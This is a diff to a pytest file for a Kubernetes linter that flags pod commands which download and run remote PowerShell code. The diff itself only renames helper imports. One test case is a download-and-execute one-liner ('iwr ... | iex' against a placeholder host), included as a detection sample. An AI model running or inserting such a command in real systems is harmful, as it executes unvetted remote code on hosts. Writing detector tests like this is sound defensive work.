@@ -13,8 +13,8 @@ from helm_charts import DAEMON_SET, write
 from scanning import report, scan_text, seconds
 from test_commands import NEW, OLD, found, handler, pod, rules
 
-from hostprocess_lint.rules.downloads import remote_code
-from hostprocess_lint.rules.script import plain, statements
+from hostprocess_lint.rules.downloads import downloaded_code
+from hostprocess_lint.rules.script import statements, unescaped
 
 RUN = [
     "iwr -UseBasicParsing https://x/a.ps1 | iex",
@@ -64,7 +64,7 @@ NOT_RUN = [
 
 @pytest.mark.parametrize("text", RUN)
 def test_what_is_downloaded_and_run(text: str) -> None:
-    assert list(remote_code(plain(text)))
+    assert list(downloaded_code(unescaped(text)))
     assert found(pod(command=["powershell", "-Command", text]))[-1] in [
         ("HPC411", "warning", f"command[{place}]") for place in (0, 2)
     ]
@@ -73,7 +73,7 @@ def test_what_is_downloaded_and_run(text: str) -> None:
 
 @pytest.mark.parametrize("text", NOT_RUN)
 def test_what_is_not(text: str) -> None:
-    assert list(remote_code(plain(text))) == []
+    assert list(downloaded_code(unescaped(text))) == []
     assert "HPC411" not in rules(pod(command=["powershell", "-Command", text]))
 
 
